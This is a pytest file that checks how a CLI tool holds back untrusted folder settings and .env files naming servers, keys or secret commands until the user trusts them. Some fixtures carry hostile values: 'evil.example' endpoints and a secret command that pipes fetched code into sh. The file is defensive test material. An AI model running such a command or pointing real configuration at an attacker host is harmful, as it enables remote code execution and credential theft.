"""Files that merely lie in the working folder: what of them waits for trust, and what is remembered."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from ccflow_tui.config import files
from ccflow_tui.config.claims import claims, waiting
from ccflow_tui.config.files import read_files
from ccflow_tui.config.layers import Layers, Source
from ccflow_tui.config.paths import Paths
from ccflow_tui.config.settings import Settings, load_settings
from ccflow_tui.config.settings_file import settings_choice
from ccflow_tui.config.state import SavedState, UserState
from ccflow_tui.config.trust import FolderFile, folder_file, held_back, held_besides
from ccflow_tui.models.problems import InputProblem, SettingsProblem
from ccflow_tui.models.profile import EndpointMode, Profile

KEY = {"assertion": {"key": "keys/my.pem"}}
SERVER = {"tokenEndpoint": "https://elsewhere.example/token"}


def layers_of(folder: Path, block: dict[str, Any], **more: Any) -> Layers:
    path = folder / "settings.json"
    path.write_text(json.dumps({"oauth": {"clientCredentials": block}}))
    return Layers(settings=load_settings(path), **more)


def names(layers: Layers) -> list[str]:
    return [held.name for held in held_back("default", layers)]


@pytest.mark.parametrize(
    ("block", "waits"),
    [
        ({"scopes": ["a"], "audience": "b", "note": "c", "clientId": "d"}, []),
        (SERVER | KEY, ["tokenEndpoint", "assertion.key"]),
        ({"issuer": "https://elsewhere.example"}, ["issuer"]),
        ({"environmentId": "3f2a1b4c-0d5e-4f60-8a7b-9c0d1e2f3a4b"}, ["environmentId"]),
        ({"region": "eu"}, ["region"]),
        (SERVER | {"authMethod": "client_secret_basic"}, ["tokenEndpoint", "authMethod"]),
        (SERVER | {"mtls": {"enabled": True, "certRef": "c.pem"}}, ["tokenEndpoint", "mtls"]),
        ({"secretCommand": ["pass"]}, ["secretReference"]),
        ({"apiBase": "https://evil.example"}, ["apiBase"]),
        ({"assertion": {"audience": "https://evil.example"}}, ["assertion.audience"]),
        ({"dpop": {"allowBearer": True}}, ["dpop.allowBearer"]),
        ({"production": False, "dpop": {"enabled": False}}, []),  # that is so without the file, too
    ],
    ids=str,
)
def test_what_names_a_server_or_a_key_or_eases_something_waits_for_trust(
    tmp_path: Path, block: dict[str, Any], waits: list[str]
) -> None:
    layers = layers_of(tmp_path, block)
    assert sorted(names(layers)) == sorted(waits)
    assert bool(claims(layers)) is bool(waits)
    assert not names(layers.trusting())


def test_an_env_file_waits_likewise(tmp_path: Path) -> None:
    variables = {
        "CCFLOW_TOKEN_ENDPOINT": SERVER["tokenEndpoint"],
        "CCFLOW_PRIVATE_KEY": "k.pem",
        "CCFLOW_MTLS_CERT": "c.pem",
        "CCFLOW_SCOPE": "a",
    }
    found = names(Layers(env_file=variables))
    assert sorted(found) == ["CCFLOW_MTLS_CERT", "CCFLOW_PRIVATE_KEY", "CCFLOW_TOKEN_ENDPOINT"]
    assert not names(Layers(env_file=variables, env_file_trusted=True))


def test_what_another_place_decides_needs_no_trust(tmp_path: Path) -> None:
    environment = {"CCFLOW_TOKEN_ENDPOINT": "https://as.example/token", "CCFLOW_PRIVATE_KEY": "own.pem"}
    assert not names(layers_of(tmp_path, SERVER | KEY, environment=environment))
    same = Profile(
        endpoint_mode=EndpointMode.MANUAL,
        token_endpoint=SERVER["tokenEndpoint"],
        key_reference=str(tmp_path / "keys/my.pem"),
    )
    assert not names(layers_of(tmp_path, SERVER | KEY, saved=SavedState(profiles={"default": same})))


def test_the_claims_name_server_client_key_and_api_and_no_secret(tmp_path: Path) -> None:
    block = SERVER | KEY | {"clientId": "c1", "apiBase": "https://api.example/x?key=CANARY-1"}
    text = "\n".join(claims(layers_of(tmp_path, block)))
    for part in ("“default”", SERVER["tokenEndpoint"], "c1", "my.pem", "https://api.example/x?(hidden)"):
        assert part in text
    assert "CANARY-1" not in text


def test_a_command_is_told_whole_and_a_long_one_by_its_length(tmp_path: Path) -> None:
    text = "\n".join(claims(layers_of(tmp_path, {"secretCommand": ["sh", "-c", "fetch evil | sh"]})))
    assert "command:sh -c 'fetch evil | sh'" in text
    text = "\n".join(claims(layers_of(tmp_path, {"secretCommand": ["sh", "x" * 400]})))
    assert "characters; read the file" in text and "x" * 400 not in text


def test_many_profiles_are_counted(tmp_path: Path) -> None:
    path = tmp_path / "settings.json"
    path.write_text(json.dumps({"profiles": {f"p{number}": SERVER | KEY for number in range(9)}}))
    assert claims(Layers(settings=load_settings(path)))[-1] == "… and 5 more profiles"


def test_what_is_said_besides_the_profiles_is_told_too() -> None:
    state = SavedState(
        profiles={"mine": Profile(name="mine"), "prod": Profile(name="prod")}, last_profile="mine"
    )
    variables = {"CCFLOW_PROFILE": "prod", "CCFLOW_ENABLED": "yes", "CCFLOW_SECRET_STORE": "file"}
    layers = Layers(saved=state, env_file=variables)
    assert {held.name for held in held_besides(layers)} == set(variables)
    assert len(claims(layers)) == 3
    assert "CCFLOW_PROFILE" not in {held.name for held in held_besides(layers, "mine")}
    assert not held_besides(Layers(env_file={"CCFLOW_PROFILE": "none", "CCFLOW_ENABLED": "no"}))


def test_the_refusal_names_file_fields_and_every_way_out(tmp_path: Path) -> None:
    layers = layers_of(tmp_path, SERVER | KEY, env_file={"CCFLOW_MTLS_CERT": "c.pem"})
    found = [
        FolderFile(tmp_path / ".env", Source.ENV_FILE, ""),
        FolderFile(tmp_path / "s", Source.SETTINGS, ""),
    ]
    text, stops = waiting("default", layers, found)
    assert stops
    for part in (
        str(tmp_path / ".env"),
        "CCFLOW_MTLS_CERT",
        "tokenEndpoint, assertion.key",
        "ccflow config --trust",
        f"CCFLOW_TRUST_FOLDER={tmp_path}",
        "--settings",
    ):
        assert part in text
    text, stops = waiting("default", Layers(env_file={"CCFLOW_DPOP_ALLOW_BEARER": "on"}), found)
    assert "CCFLOW_DPOP_ALLOW_BEARER" in text and not stops, "what is merely not eased stops nothing"


def paths_in(folder: Path) -> Paths:
    return Paths(folder / "home", folder / "home")


def test_the_users_own_folder_and_a_named_file_need_no_trust(tmp_path: Path) -> None:
    paths, home = paths_in(tmp_path), tmp_path / "home"
    home.mkdir()
    for name in (".env", "settings.json"):
        (home / name).write_text("{}" if name.endswith("json") else "CCFLOW_SCOPE=a")
    found = read_files(home / ".env", settings_choice(None, home, paths), None, paths)
    assert found.folder == () and found.env_file and found.settings == Settings()
    named = tmp_path / "named.json"
    named.write_text("{}")
    assert read_files(tmp_path / ".env", settings_choice(named, tmp_path, paths), named, paths).folder == ()


def test_the_users_own_settings_are_read_behind_those_of_a_folder(tmp_path: Path) -> None:
    paths = paths_in(tmp_path)
    paths.config_dir.mkdir()
    paths.settings_file.write_text('{"defaultProfile": "own"}')
    (tmp_path / "settings.json").write_text("{}")
    (tmp_path / ".env").write_text("CCFLOW_SCOPE=a")
    found = read_files(tmp_path / ".env", settings_choice(None, tmp_path, paths), None, paths)
    assert found.own_settings == Settings(default_profile="own")
    assert [each.source for each in found.folder] == [Source.ENV_FILE, Source.SETTINGS]


def test_a_folder_is_trusted_by_its_whole_path_in_the_environment(tmp_path: Path) -> None:
    paths = paths_in(tmp_path)
    (tmp_path / ".env").write_text("CCFLOW_SCOPE=a")
    found = read_files(tmp_path / ".env", settings_choice(None, tmp_path, paths), None, paths)
    for text, trusted in (("", False), (f" {tmp_path}/ ", True), (str(tmp_path.parent), False)):
        assert found.trusted(Source.ENV_FILE, SavedState(), {"CCFLOW_TRUST_FOLDER": text}) is trusted
    for text in (".", "~/x", "1"):
        with pytest.raises(InputProblem, match="CCFLOW_TRUST_FOLDER must be the whole path"):
            found.trusted(Source.ENV_FILE, SavedState(), {"CCFLOW_TRUST_FOLDER": text})


def test_a_file_that_changes_while_it_is_read_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is asked about, and remembered as trusted, must be what is used."""
    path, paths = tmp_path / ".env", paths_in(tmp_path)
    path.write_text("CCFLOW_SCOPE=a")

    def read_and_change(file: Path) -> dict[str, str]:
        file.write_text("CCFLOW_ISSUER=https://evil.example")
        return {"CCFLOW_SCOPE": "a"}

    monkeypatch.setattr(files, "read_env_file", read_and_change)
    with pytest.raises(SettingsProblem, match="changed while it was read"):
        read_files(path, settings_choice(None, tmp_path, paths), None, paths)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes are of Unix")
@pytest.mark.timeout(10)
@pytest.mark.parametrize("name", [".env", "settings.json"])
def test_a_pipe_in_the_folder_is_refused_and_not_waited_for(tmp_path: Path, name: str) -> None:
    paths = paths_in(tmp_path)
    os.mkfifo(tmp_path / name)
    with pytest.raises(SettingsProblem, match="no regular file"):
        read_files(tmp_path / ".env", settings_choice(None, tmp_path, paths), None, paths)


def test_trust_is_remembered_for_this_content_only(tmp_path: Path) -> None:
    file, state = tmp_path / "settings.json", UserState(tmp_path / "state.json")
    file.write_text("{}")
    folder = folder_file(file, Source.SETTINGS)
    assert not folder.is_trusted(SavedState())
    state.update(folder.trusted_in)
    assert folder.is_trusted(state.load())
    file.write_text("{ }")
    assert not folder_file(file, Source.SETTINGS).is_trusted(state.load())
    other = tmp_path / "other"
    other.mkdir()
    (other / "settings.json").write_text("{}")
    assert not folder_file(other / "settings.json", Source.SETTINGS).is_trusted(state.load())


@pytest.mark.parametrize("trusted", [[], {"a": 1}, "x"])
def test_a_broken_list_of_trusted_files_trusts_nothing(tmp_path: Path, trusted: object) -> None:
    path = tmp_path / "state.json"
    path.write_text(json.dumps({"version": 1, "trusted": trusted}))
    with pytest.raises(SettingsProblem, match="trusted: It must be an object of texts"):
        UserState(path).load()
